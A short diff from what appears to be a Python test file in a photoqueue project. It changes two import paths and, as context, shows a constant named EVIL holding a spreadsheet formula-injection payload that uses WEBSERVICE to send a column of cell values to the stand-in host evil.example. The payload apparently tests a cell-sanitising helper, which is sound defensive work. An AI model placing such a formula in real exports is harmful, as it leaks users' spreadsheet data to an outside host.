@@ -18,8 +18,8 @@ from clirun import run_cli
 from photoqueue.central import accounts
 from photoqueue.central.process import CentralThread
 from photoqueue.central.settings import CentralSettings
-from photoqueue.device.store import db_path
-from photoqueue.device.sync import SyncClient
+from photoqueue.device.store.events import db_path
+from photoqueue.device.sync.client import SyncClient
 from photoqueue.reports.cells import FORMULA_STARTS, safe_cell
 
 EVIL = '=IFERROR(WEBSERVICE("http:"&"//evil.example/c?"&TEXTJOIN(",",1,E2:E999)),"")'
